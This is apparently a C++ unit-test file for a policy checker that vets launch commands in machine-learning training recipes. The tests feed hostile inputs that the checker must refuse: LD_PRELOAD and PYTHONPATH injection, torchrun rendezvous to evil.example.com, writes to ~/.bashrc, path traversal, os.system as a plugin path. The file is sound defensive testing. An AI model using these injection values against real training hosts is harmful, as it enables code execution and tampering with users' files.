// Tests for src/checks/command_policy: the program policy every command applies to a recipe's command (SPEC §5, §6;
// registry/rules/command.yaml), on the bundled policy.
#include "checks/command_policy.h"

#include <gtest/gtest.h>

#include "checks/embedded_rules.h"
#include "checks/framework_options.h"
#include "core/error.h"
#include "core/files.h"
#include "testing/support.h"

namespace openrecipes::checks {
namespace {

PolicyCheck check(const std::string& command, const std::string& framework = "megatron-lm") {
  return CommandPolicy::bundled().check(layout::split_command(command, "t"), framework, "cmd");
}

std::string first_problem(const std::string& command, const std::string& framework = "megatron-lm") {
  auto c = check(command, framework);
  EXPECT_FALSE(c.shape) << command;
  return c.problems.empty() ? "" : c.problems.front().message;
}

TEST(CommandPolicy, the_launchers_on_the_frameworks_entry_scripts_keep_the_policy) {
  auto c = check("torchrun --nproc-per-node 8 --nnodes=2 --standalone $MEGATRON_LM/pretrain_gpt.py --lr 1e-5");
  ASSERT_TRUE(c.shape);
  EXPECT_EQ(c.shape->program, 0u);
  EXPECT_EQ(c.shape->script, 5u);  // torchrun, --nproc-per-node, 8, --nnodes=2, --standalone, the script
  EXPECT_EQ(c.shape->program_name, "torchrun");
  EXPECT_EQ(c.shape->script_name, "pretrain_gpt.py");
  auto ray = check("NCCL_ALGO=Ring python3 -u <slime entry module> --actor-num-nodes 1 ${MODEL_ARGS[@]}", "slime");
  ASSERT_TRUE(ray.shape) << ray.problems.front().message;
  EXPECT_EQ(ray.shape->env_end, 1u);
  EXPECT_EQ(ray.shape->script, 3u);
  EXPECT_EQ(ray.shape->script_name, "train.py");
  EXPECT_TRUE(check("python3.12 ${SLIME}/train_async.py", "slime").shape);
  EXPECT_TRUE(check("torchrun --nproc_per_node 1 $MEGATRON_LM/pretrain_gpt.py").shape);  // torchrun's '_' spelling
}

// Regression: an environment prefix that makes the trainer load code from a path the recipe names.
TEST(CommandPolicy, an_environment_variable_off_the_list_is_refused_by_name) {
  for (const char* name :
       {"PYTHONPATH", "LD_PRELOAD", "PATH", "BASH_ENV", "LD_LIBRARY_PATH", "PYTHONSTARTUP", "NCCL_NET_PLUGIN",
        "CUDA_INJECTION64_PATH", "HF_MODULES_CACHE", "TRITON_CACHE_DIR", "NCCL_DEBUG_FILE", "PYTHONWARNINGS"}) {
    const std::string m =
        first_problem(std::string(name) + "=evidence torchrun --nproc-per-node 1 $MEGATRON_LM/pretrain_gpt.py");
    EXPECT_EQ(m, std::string("cmd, line 1, column 1: the command sets ") + name +
                     ", which a recipe may not set (a variable that can make the trainer load code from a path, or "
                     "one the policy does not know)")
        << name;
  }
  auto c = check("PYTHONPATH=evidence torchrun $MEGATRON_LM/pretrain_gpt.py");
  EXPECT_EQ(c.problems.front().rule, "command.environment");
  EXPECT_NE(c.problems.front().fix.find("patches/ goes on PYTHONPATH"), std::string::npos);
  EXPECT_TRUE(check("CUDA_DEVICE_MAX_CONNECTIONS=1 NCCL_DEBUG=WARN torchrun $MEGATRON_LM/pretrain_gpt.py").shape);
  EXPECT_EQ(first_problem("NCCL_DEBUG=WARN NCCL_DEBUG=INFO torchrun $MEGATRON_LM/pretrain_gpt.py"),
            "cmd, line 1, column 17: NCCL_DEBUG is set twice");
}

TEST(CommandPolicy, allowed_variables_carry_their_class_for_the_configuration_check) {
  const auto& p = CommandPolicy::bundled();
  EXPECT_EQ(p.environment_class("NCCL_ALGO")->cls, ArgClass::structural);
  EXPECT_EQ(p.environment_class("NVTE_FUSED_ATTN")->cls, ArgClass::same_math_swap);
  EXPECT_EQ(p.environment_class("NCCL_DEBUG")->cls, ArgClass::bookkeeping);
  EXPECT_EQ(p.environment_class("NVIDIA_TF32_OVERRIDE")->cls, ArgClass::math);
  EXPECT_NE(p.environment_class("NCCL_ALGO")->rule.find("command.yaml:"), std::string::npos);
  EXPECT_FALSE(p.environment_class("PYTHONPATH"));
  EXPECT_EQ(p.framework_variable("megatron-lm"), "MEGATRON_LM");
  EXPECT_EQ(p.framework_variable("miles"), "MILES");
  EXPECT_EQ(p.framework_variable("other"), "");
}

TEST(CommandPolicy, programs_are_named_and_their_flags_spelled_in_full) {
  EXPECT_EQ(first_problem("bash -c 'id'"),
            "cmd, line 1, column 1: the command runs 'bash', not the framework's launcher");
  EXPECT_EQ(first_problem("$PYTHON $MEGATRON_LM/pretrain_gpt.py"),
            "cmd, line 1, column 1: the command runs '$PYTHON', not the framework's launcher");
  EXPECT_EQ(first_problem("/usr/bin/torchrun $MEGATRON_LM/pretrain_gpt.py"),
            "cmd, line 1, column 1: the command runs '/usr/bin/torchrun', not the framework's launcher");
  EXPECT_EQ(first_problem("torchrun --no-pyth sh $MEGATRON_LM/pretrain_gpt.py"),
            "cmd, line 1, column 10: torchrun '--no-pyth' is not one of the flags a recipe may give it");
  EXPECT_EQ(first_problem("python3 -c 'import os'"),
            "cmd, line 1, column 9: python3 '-c' is not one of the flags a recipe may give it");
  EXPECT_EQ(first_problem("python3 -m torch.distributed.run $MEGATRON_LM/pretrain_gpt.py"),
            "cmd, line 1, column 9: python3 '-m' is not one of the flags a recipe may give it");
  EXPECT_EQ(first_problem("torchrun --standalone=1 $MEGATRON_LM/pretrain_gpt.py"),
            "cmd, line 1, column 10: '--standalone=1' takes no value");
}

TEST(CommandPolicy, the_script_is_an_entry_script_of_the_framework_through_its_checkout) {
  EXPECT_EQ(first_problem("torchrun /tmp/evil.py"),
            "cmd, line 1, column 10: the entry script '/tmp/evil.py' is not one of megatron-lm's");
  EXPECT_EQ(first_problem("torchrun $MEGATRON_LM/../evil.py"),
            "cmd, line 1, column 10: the entry script '$MEGATRON_LM/../evil.py' is not one of megatron-lm's");
  EXPECT_EQ(first_problem("torchrun $SLIME/pretrain_gpt.py"),
            "cmd, line 1, column 10: the entry script '$SLIME/pretrain_gpt.py' is not one of megatron-lm's");
  EXPECT_EQ(first_problem("torchrun $MEGATRON_LM/pretrain_gpt.py$X"),
            "cmd, line 1, column 10: the entry script '$MEGATRON_LM/pretrain_gpt.py$X' is not one of megatron-lm's");
  EXPECT_EQ(first_problem("torchrun <slime entry module>"),
            "cmd, line 1, column 10: <slime entry module> is slime's and miles' entry point, not Megatron-LM's");
  EXPECT_EQ(first_problem("torchrun --nproc-per-node 8"), "cmd: after torchrun comes no entry script");
  EXPECT_EQ(first_problem("NCCL_DEBUG=INFO"), "cmd: the command has no program to run");
  EXPECT_EQ(first_problem("python3 $SLIME/train.py", "unknown-framework"),
            "cmd: the policy has no entry scripts for framework 'unknown-framework'");
}

// Regression: torchrun's c10d rendezvous unpickles the state it reads from the store at --rdzv-endpoint, so a recipe
// naming a store ran code on the user's machine.
TEST(CommandPolicy, torchruns_rendezvous_and_output_flags_are_refused_and_each_flag_given_once) {
  for (const char* flag : {"--rdzv-backend c10d", "--rdzv-endpoint evil.example.com:29400", "--rdzv-conf is_host=0",
                           "--master-addr evil.example.com", "--local-addr x", "--log-dir /tmp/x", "--tee 3"}) {
    const std::string name = std::string(flag).substr(0, std::string(flag).find(' '));
    EXPECT_EQ(first_problem(std::string("torchrun --nproc-per-node 1 ") + flag + " $MEGATRON_LM/pretrain_gpt.py"),
              "cmd, line 1, column 29: torchrun '" + name + "' is not one of the flags a recipe may give it")
        << flag;
  }
  EXPECT_EQ(first_problem("torchrun --nproc-per-node 1 --nproc_per_node 8 $MEGATRON_LM/pretrain_gpt.py"),
            "cmd, line 1, column 29: torchrun '--nproc_per_node' is given twice");
  EXPECT_EQ(first_problem("torchrun --nproc-per-node $N $MEGATRON_LM/pretrain_gpt.py"),
            "cmd, line 1, column 27: torchrun --nproc-per-node takes a whole number, and is given '$N'");
  EXPECT_EQ(first_problem("torchrun --nproc-per-node=gpu $MEGATRON_LM/pretrain_gpt.py"),
            "cmd, line 1, column 10: torchrun --nproc-per-node takes a whole number, and is given 'gpu'");
  EXPECT_TRUE(check("torchrun --nproc-per-node=8 --nnodes 2 --master-port 29500 $MEGATRON_LM/pretrain_gpt.py").shape);
}

TEST(CommandPolicy, script_arguments_that_run_code_or_read_a_file_the_recipe_names_are_refused) {
  const std::string base = "torchrun --nproc-per-node 1 $MEGATRON_LM/pretrain_gpt.py ";
  EXPECT_NE(first_problem(base + "--trust-remote-code").find("--trust-remote-code is refused: it runs or imports code"),
            std::string::npos);
  EXPECT_NE(first_problem(base + "--spec evil.module spec").find("--spec is refused"), std::string::npos);
  // A quote or backslash in front changes nothing: argparse sees --trust-remote-code.
  EXPECT_NE(first_problem(base + "''--trust-remote-code").find("--trust-remote-code is refused"), std::string::npos);
  EXPECT_NE(first_problem(base + "\\--trust-remote-code").find("--trust-remote-code is refused"), std::string::npos);
  // Files the run reads (and may unpickle) come through the user's variables, never as a path the recipe names.
  EXPECT_NE(first_problem(base + "--load registry/recipes/x/evidence")
                .find("--load 'registry/recipes/x/evidence': a file the run reads, named by the recipe"),
            std::string::npos);
  EXPECT_NE(first_problem(base + "--load=/tmp/ckpt").find("--load '/tmp/ckpt': a file the run reads"),
            std::string::npos);
  EXPECT_TRUE(check(base + "--load $TORCH_DIST --data-path 0.7 $SFT_DATA 0.3 $SFT_DATA/b --save=$RUN_DIR").shape);
  // A variable glued to a flag's name: which flag argparse sees depends on it.
  EXPECT_NE(first_problem(base + "--lr$X 1e-5").find("'--lr$X': a variable inside a flag's name"), std::string::npos);
}

// SPEC §6 "Files the trainer touches": each input that once got through.
TEST(CommandPolicy, every_file_the_trainer_writes_is_inside_the_run_folder) {
  const std::string base = "torchrun --nproc-per-node 1 $MEGATRON_LM/pretrain_gpt.py ";
  for (const char* args :
       {"--record-memory-history --memory-snapshot-path /home/user/.bashrc", "--save /srv/shared --save-interval 1",
        "--tensorboard-dir /tmp/tb", "--wandb-save-dir ../wandb", "--logits-save-dir $HOME/x",
        "--flight-recorder-dump-path $TORCH_DIST/dump", "--save $RUN_DIR/../../elsewhere", "--save $RUN_DIR-old",
        "--save=$RUN_DIR/a/../../b", "--data-cache-path .cache"}) {
    const std::string p = first_problem(base + args);
    EXPECT_TRUE(p.find("writes") != std::string::npos || p.find("climbs out") != std::string::npos ||
                p.find("beside it") != std::string::npos)
        << args << ": " << p;
  }
  EXPECT_EQ(first_problem(base + "--memory-snapshot-path /home/user/.bashrc"),
            "cmd, line 1, column 81: --memory-snapshot-path '/home/user/.bashrc': a file the run writes, named outside "
            "the run folder; it names a file or folder the run writes (checkpoints, logs, traces, snapshots, caches, "
            "dumps): it stays inside the run folder");
  auto c = check(base + "--save $RUN_DIR/checkpoints --save-interval 10 --tensorboard-dir=$RUN_DIR");
  ASSERT_TRUE(c.shape) << c.problems.front().message;
  ASSERT_EQ(c.shape->paths.size(), 2u);
  EXPECT_EQ(c.shape->paths[0].flag, "--save");
  EXPECT_EQ(c.shape->paths[0].access, PathArgument::Access::write);
  EXPECT_EQ(c.shape->paths[0].variable, "RUN_DIR");
  EXPECT_EQ(c.shape->paths[0].suffix, "/checkpoints");
  EXPECT_EQ(c.shape->paths[1].flag, "--tensorboard-dir");
  EXPECT_EQ(c.shape->paths[1].suffix, "");
}

// Its hostile review: argparse reads a word that starts with '-' and holds a space as a value, not a flag, so
// `--save "-a b/../x"` saves to "-a b/../x": the word is the flag's value, and checked as one.
TEST(CommandPolicy, a_value_that_starts_with_a_dash_and_holds_a_space_is_checked_as_the_flags_value) {
  const std::string base = "torchrun --nproc-per-node 1 $MEGATRON_LM/pretrain_gpt.py --mock-data ";
  EXPECT_NE(first_problem(base + "--save \"-a b/../../../../tmp/pwn\" --save-interval 1")
                .find("--save '-a b/../../../../tmp/pwn': a file the run writes, named outside the run folder"),
            std::string::npos);
  EXPECT_NE(first_problem(base + "--load '-x y'").find("--load '-x y': a file the run reads, named by the recipe"),
            std::string::npos);
  // A flag of the parser followed by '=' is a flag, space or not.
  EXPECT_NE(first_problem(base + "'--save=/tmp/a b'").find("--save '/tmp/a b': a file the run writes"),
            std::string::npos);
}

TEST(CommandPolicy, every_file_the_trainer_reads_comes_through_a_variable_and_stays_inside_it) {
  const std::string base = "torchrun --nproc-per-node 1 $MEGATRON_LM/pretrain_gpt.py ";
  EXPECT_NE(first_problem(base + "--load $TORCH_DIST/../../../etc").find("'..' climbs out of $TORCH_DIST"),
            std::string::npos);
  EXPECT_NE(first_problem(base + "--load ${TORCH_DIST}_other").find("names a path beside it, not inside it"),
            std::string::npos);
  EXPECT_NE(first_problem(base + "--load $TORCH_DIST/$X").find("one variable, at its start"), std::string::npos);
  for (const char* args :
       {"--logits-load-dir /data/x", "--bert-load ckpt", "--ict-load ckpt", "--nccl-communicator-config-path nccl.yaml",
        "--load inf", "--load nan", "--load 1e5", "--load 3"})
    EXPECT_NE(first_problem(base + args).find("a file the run reads, named by the recipe"), std::string::npos) << args;
  auto c = check(base + "--load $TORCH_DIST/iter_0000010 --tokenizer-model \"$HF_CKPT\"");
  ASSERT_TRUE(c.shape) << c.problems.front().message;
  ASSERT_EQ(c.shape->paths.size(), 2u);
  EXPECT_EQ(c.shape->paths[0].access, PathArgument::Access::read);
  EXPECT_EQ(c.shape->paths[0].variable, "TORCH_DIST");
  EXPECT_EQ(c.shape->paths[0].suffix, "/iter_0000010");
  EXPECT_FALSE(c.shape->paths[0].dataset);
}

TEST(CommandPolicy, a_dataset_blend_is_prefixes_or_pairs_of_a_finite_decimal_weight_and_a_prefix) {
  const std::string base = "torchrun --nproc-per-node 1 $MEGATRON_LM/pretrain_gpt.py --data-path ";
  auto c = check(base + "0.7 $SFT_DATA 0.3 $SFT_DATA/b");
  ASSERT_TRUE(c.shape) << c.problems.front().message;
  ASSERT_EQ(c.shape->paths.size(), 2u);
  EXPECT_TRUE(c.shape->paths[0].dataset);
  EXPECT_EQ(c.shape->paths[1].suffix, "/b");
  EXPECT_TRUE(check(base + "$SFT_DATA $SFT_DATA/b $SFT_DATA/c").shape);
  EXPECT_TRUE(check(base + "1 $SFT_DATA").shape);
  // Megatron-LM reads a weight only at an even place of an even count where every even place is a number.
  EXPECT_NE(first_problem(base + "inf $SFT_DATA").find("'inf': a dataset's weight is a finite decimal number"),
            std::string::npos);
  EXPECT_NE(first_problem(base + "1e5 $SFT_DATA").find("'1e5': a dataset's weight is a finite decimal"),
            std::string::npos);
  EXPECT_NE(first_problem(base + "$SFT_DATA 0.5").find("'0.5': a file the run reads, named by the recipe"),
            std::string::npos);
  EXPECT_NE(first_problem(base + "0.5 $SFT_DATA 0.5").find("'0.5': a file the run reads"), std::string::npos);
}

TEST(CommandPolicy, slimes_environment_for_its_actors_and_sglangs_file_arguments_are_refused) {
  const std::string base = "python3 <slime entry module> ";
  auto problem = [&](const std::string& args) {
    auto c = CommandPolicy::bundled().check(layout::split_command(base + args, "t"), "slime", "cmd");
    return c.problems.empty() ? std::string() : c.problems.front().message;
  };
  EXPECT_NE(problem("--train-env-vars '{\"LD_PRELOAD\": \"/tmp/x.so\"}'").find("--train-env-vars is refused"),
            std::string::npos);
  EXPECT_NE(problem("--sglang-model-path /tmp/x").find("its name says it names a file ('model')"), std::string::npos);
  EXPECT_NE(problem("--router-log-dir=/tmp").find("('log')"), std::string::npos);
  EXPECT_EQ(problem("--debug-train-only --sglang-mem-fraction-static 0.7 --sglang-router-ip 10.0.0.1"), "");
  // Its hostile review: without --debug-train-only SGLang's own parser reads them, abbreviations included
  // (--sglang-conf is --sglang-config, a file it reads).
  EXPECT_NE(problem("--sglang-conf /etc/x.yaml").find("--sglang-conf is refused: without --debug-train-only"),
            std::string::npos);
  EXPECT_NE(problem("--sglang-mem-fraction-static 0.7").find("without --debug-train-only"), std::string::npos);
}

// The names test of SPEC §6: every text-valued argument of each framework's own parser is classed read, write,
// module, refused or value, so a new path argument of a pinned framework cannot pass unclassed.
TEST(CommandPolicy, every_text_argument_of_each_frameworks_own_parser_is_classed) {
  const auto& policy = CommandPolicy::bundled();
  std::size_t classed = 0;
  for (const char* framework : {"megatron-lm", "slime", "miles"}) {
    const OptionTable* table = OptionTable::bundled(framework);
    ASSERT_NE(table, nullptr) << framework;
    for (const auto& o : table->options()) {
      const bool text = o.type == "str" || o.type == "None" || o.type == "other:loads";
      if (o.nargs == "0" || !text || !o.choices.empty()) continue;
      const std::string rule = policy.argument_rule(o.flags.front());
      EXPECT_NE(rule, "") << framework << ": " << o.flags.front() << " takes text and is not classed in "
                          << "registry/rules/command.yaml (read, write, module, refused or value)";
      for (const auto& f : o.flags) EXPECT_EQ(policy.argument_rule(f), rule) << f;
      ++classed;
    }
  }
  EXPECT_GT(classed, 250u);
  // The paths the issue names, each in its class.
  for (const char* f : {"--memory-snapshot-path", "--save", "--tensorboard-dir", "--wandb-save-dir",
                        "--logits-save-dir", "--flight-recorder-dump-path"})
    EXPECT_EQ(policy.argument_rule(f), "write") << f;
  for (const char* f : {"--logits-load-dir", "--bert-load", "--ict-load", "--nccl-communicator-config-path", "--load"})
    EXPECT_EQ(policy.argument_rule(f), "read") << f;
}

TEST(CommandPolicy, import_paths_name_only_the_plugin_the_framework_or_the_recipes_patches) {
  const std::string base = "python3 <slime entry module> ";
  auto ok = [&](const std::string& args, const std::vector<std::string>& patches = {}) {
    return CommandPolicy::bundled().check(layout::split_command(base + args, "t"), "slime", "cmd", patches).shape;
  };
  EXPECT_TRUE(ok("--rollout-function-path pretokenized_sft_rollout.generate_rollout"));
  EXPECT_TRUE(ok("--data-source-path slime.rollout.data_source.RolloutDataSourceWithBuffer"));
  EXPECT_FALSE(ok("--rollout-function-path os.system"));
  EXPECT_FALSE(ok("--custom-rm-path $PLUGIN.reward"));
  EXPECT_FALSE(ok("--custom-loss-function-path myplugin.loss"));
  EXPECT_TRUE(ok("--custom-loss-function-path myplugin.loss", {"myplugin"}));  // a pinned patch's module
  auto c = CommandPolicy::bundled().check(layout::split_command(base + "--rollout-function-path os.system", "t"),
                                          "slime", "cmd");
  EXPECT_EQ(c.problems.front().rule, "command.argument");
  EXPECT_NE(c.problems.front().message.find("--rollout-function-path 'os.system' is not an import path in "
                                            "pretokenized_sft_rollout, slime, miles"),
            std::string::npos)
      << c.problems.front().message;
}

TEST(CommandPolicy, a_policy_file_is_validated) {
  auto bad = [](const std::string& text) { return testing::message_of([&] { CommandPolicy::parse(text, "p.yaml"); }); };
  const std::string head =
      "version: 1\nprograms: []\nentry_scripts: {megatron-lm: {variable: MEGATRON_LM, scripts: [pretrain_gpt.py]}}\n";
  EXPECT_NO_THROW(CommandPolicy::parse(head + "environment: []\n", "p.yaml"));
  EXPECT_NE(bad(head + "environment: [{class: fast, why: x, names: [A]}]\n").find("unknown class 'fast'"),
            std::string::npos);
  EXPECT_NE(bad(head + "environment: [{class: math, why: x, names: [A, A]}]\n").find("'A' is listed twice"),
            std::string::npos);
  EXPECT_NE(bad(head + "environment: [{class: math, why: x, names: ['A-B']}]\n").find("not an environment variable"),
            std::string::npos);
  EXPECT_NE(bad("version: 1\nprograms: []\nentry_scripts: {x: {variable: X, scripts: [../a.py]}}\nenvironment: []\n")
                .find("without '..'"),
            std::string::npos);
}

TEST(CommandPolicy, the_compiled_in_rules_are_the_checkouts_files_byte_for_byte) {
  // One home: what the binary applies is registry/rules/ as committed.
  const auto rules = testing::source_dir() / "registry/rules";
  EXPECT_EQ(rules_file("command.yaml"), read_file(rules / "command.yaml"));
  for (const char* table : {"options/megatron-lm.json", "options/miles.json", "options/slime.json", "workload.yaml"})
    EXPECT_EQ(rules_file(table), read_file(rules / table)) << table;
  std::vector<std::string> paths;
  for (const auto& f : rules_files()) paths.emplace_back(f.path);
  EXPECT_EQ(paths, (std::vector<std::string>{"command.yaml", "options/megatron-lm.json", "options/miles.json",
                                             "options/slime.json", "workload.yaml"}));
}

}  // namespace
}  // namespace openrecipes::checks
